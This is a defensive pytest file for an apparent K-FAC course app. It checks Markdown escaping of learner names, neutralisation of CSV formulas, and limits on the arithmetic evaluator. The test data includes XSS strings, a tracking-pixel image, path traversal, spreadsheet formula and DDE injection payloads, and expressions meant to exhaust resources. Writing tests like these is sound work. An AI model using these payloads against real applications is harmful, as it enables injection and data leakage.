"""Hostile or odd input: learner names are shown as typed (never as Markdown) and
odd ones are explained; CSV exports carry no spreadsheet formulas; the K-FAC
cost calculator renders at its largest inputs; lesson arithmetic refuses what
would overflow, recurse or hang, with its own error."""

from __future__ import annotations

import csv
import io
import string
import subprocess
import sys

import pytest

from course.expr import MAX_DEPTH, MAX_LENGTH, ExpressionError, evaluate
from course.lessons import LessonError, load_lesson
from course.markup import escape_markdown, safe_filename
from course.progress import ENV_VAR, EXPORT_FIELDS, FORMULA_START, ProgressStore
from tests.app.helpers import open_page, start, submit
from tests.conftest import ROOT

PIXEL = "![p](http://127.0.0.1:9/pixel.png)"


@pytest.fixture
def db(tmp_path, monkeypatch):
    path = tmp_path / "progress.sqlite3"
    monkeypatch.setenv(ENV_VAR, str(path))
    return path


def _named(name: str):
    at = start()
    at.sidebar.text_input(key="learner").input(name)
    return at.run()


# ----------------------------------------------------------------------- names
def test_escape_markdown_escapes_every_punctuation_character():
    """CommonMark: any ASCII punctuation character may be backslash-escaped and is then
    a literal character, so with all of them escaped no Markdown, HTML, directive or
    maths can start; removing the escapes gives the name back. (The browser test
    checks what Chromium actually draws.)"""
    for name in (PIXEL, "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "**bold** _it_ `code`",
                 ":red[red] :material/home:", "$x^2$", "# heading", "1. list", "a\\b", "&amp;", "Ada Lovelace"):
        escaped = escape_markdown(name)
        i = 0
        plain = []
        while i < len(escaped):
            c = escaped[i]
            if c in string.punctuation:
                assert c == "\\" and i + 1 < len(escaped) and escaped[i + 1] in string.punctuation, (name, escaped)
                plain.append(escaped[i + 1])
                i += 2
            else:
                plain.append(c)
                i += 1
        assert "".join(plain) == name


def test_a_markdown_name_is_escaped_everywhere_it_is_shown(db):
    at = _named(PIXEL)
    shown = escape_markdown(PIXEL)
    assert any(p.proto.text.startswith(f"{shown}: ") for p in at.sidebar.get("progress"))
    assert any(m.value == shown for m in at.metric)  # home page: "Learner"
    at = open_page(at, "progress")
    assert any(c.value.startswith(f"Learner: **{shown}**") for c in at.caption)
    assert any(c.label == f"Yes, delete every saved answer of **{shown}**" for c in at.checkbox)
    rendered = [p.proto.text for p in at.get("progress")] + [m.value for m in at.metric] + \
        [c.value for c in at.caption] + [c.label for c in at.checkbox]
    assert not any(PIXEL in r for r in rendered), "the raw name reached a Markdown element"


def test_an_empty_or_blank_name_is_explained(db):
    for typed in ("", "   \t "):
        at = _named(typed)
        notes = [i.value for i in at.sidebar.info]
        assert any("shared name **guest**" in n for n in notes), notes


def test_an_overlong_paste_is_explained_not_silently_cut(db):
    at = _named("A" * 10_000)
    notes = [i.value for i in at.sidebar.info]
    assert any("at most 40 characters and yours has 10,000" in n and f"**{'A' * 40}**" in n for n in notes), notes
    at = _named("Ada Lovelace")
    assert not at.sidebar.info


def test_safe_filename():
    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert safe_filename(PIXEL) == "p_http_127.0.0.1_9_pixel.png"
    assert safe_filename("   ") == "learner"


# ------------------------------------------------------------------------- CSV
@pytest.mark.parametrize("lead", FORMULA_START)
def test_csv_export_neutralises_formulas_in_every_text_column(tmp_path, lead):
    s = ProgressStore(tmp_path / "p.sqlite3")
    name = f"{lead}HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"x\")"
    s.record(name, f"{lead}lesson", f"{lead}q", f"{lead}kind", f"{lead}cmd|' /C calc'!A0", None, None)
    s.record(name, "kfac", "num", "numeric", "-3.5", True, 1.0)
    text = s.export_csv(name)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(EXPORT_FIELDS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula cell {cell!r}"
    first = dict(zip(rows[0], rows[1], strict=True))
    # the value is recoverable: strip the one added quote
    for field, value in (("learner", name), ("lesson", f"{lead}lesson"), ("question", f"{lead}q"),
                         ("kind", f"{lead}kind")):
        assert first[field] == "'" + value
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["response"] == '"-3.5"' and second["score"] == "1.0"  # JSON text, numbers untouched


# ------------------------------------------------------------------ calculators
def test_kfac_cost_calculator_at_a_million_by_a_million(db):
    at = open_page(start(), "kfac")
    at.number_input(key="kc-m").set_value(1_000_000)
    at.number_input(key="kc-n").set_value(1_000_000)
    at = at.run()
    assert not at.exception
    assert not [e.value for e in at.error if "lab stopped" in e.value]
    table = next(df.value for df in at.table if "entries" in df.value.columns)
    rows = dict(zip(table["name"], table["entries"], strict=True))
    m, n = 1_000_000, 1_000_001  # n + 1: the bias column
    assert rows["exact Fisher block"] == f"{(m * n) ** 2:.3g}" == "1e+24"
    assert rows["K-FAC (A and G)"] == f"{n * n + m * m:,}"  # exact below 10^15


# ------------------------------------------------------------------ lesson arithmetic
def test_nested_powers_are_refused_fast():
    """The old evaluator computed 10**(10**9) here (over 60 s and gigabytes); run in a
    child process so a regression cannot hang the suite."""
    code = ("from course.expr import evaluate, ExpressionError\n"
            "try:\n    evaluate('((10**1000)**1000)**1000')\nexcept ExpressionError as e:\n    print('refused:', e)")
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=30)
    assert out.stdout.startswith("refused: number too large"), out.stdout + out.stderr[-500:]


@pytest.mark.parametrize("text", [
    "10**309", "1e308 * 10", "2.0**1023 * 2", "9" * 5000, "-" * (MAX_DEPTH + 5) + "1",
    "(" * 300 + "1" + ")" * 300, "-(" * (MAX_DEPTH + 5) + "1" + ")" * (MAX_DEPTH + 5), "1" + "+1" * 300, "(-8)**(1/3)", "10**10**10",
])
def test_expression_limits_give_their_own_error(text):
    with pytest.raises(ExpressionError):
        evaluate(text)


def test_expression_limits_leave_real_answers_alone():
    assert evaluate("32000**2 * 4 / 1e9") == pytest.approx(4.096)
    assert evaluate("10**308") == 1e308
    assert evaluate("(" * 150 + "1" + ")" * 150) == 1.0  # parentheses alone nest nothing
    assert evaluate("1" + "+1" * (MAX_DEPTH - 1)) == MAX_DEPTH
    assert len("1" + "+1" * (MAX_DEPTH - 1)) < MAX_LENGTH


def test_a_monstrous_answer_is_a_lesson_error(tmp_path):
    import shutil

    import yaml

    src = next(p for p in (ROOT / "lessons").iterdir() if p.name.endswith("kfac"))
    dst = tmp_path / src.name
    shutil.copytree(src, dst)
    data = yaml.safe_load((dst / "questions.yaml").read_text())
    numeric = next(q for q in data["questions"] if q["kind"] == "numeric")
    numeric["answer"] = "((10**1000)**1000)**1000"
    (dst / "questions.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    with pytest.raises(LessonError, match=r"answer'.*number too large"):
        load_lesson(dst)


def test_reset_message_escapes_the_name(db):
    ProgressStore(db).record(PIXEL, "kfac", "q", "reflection", "x", None, None)
    at = _named(PIXEL)
    at = open_page(at, "progress")
    at.checkbox[0].check()
    at = submit(at, "reset")
    assert any(s.value.startswith(f"Deleted 1 saved answers of {escape_markdown(PIXEL)} from") for s in at.success)
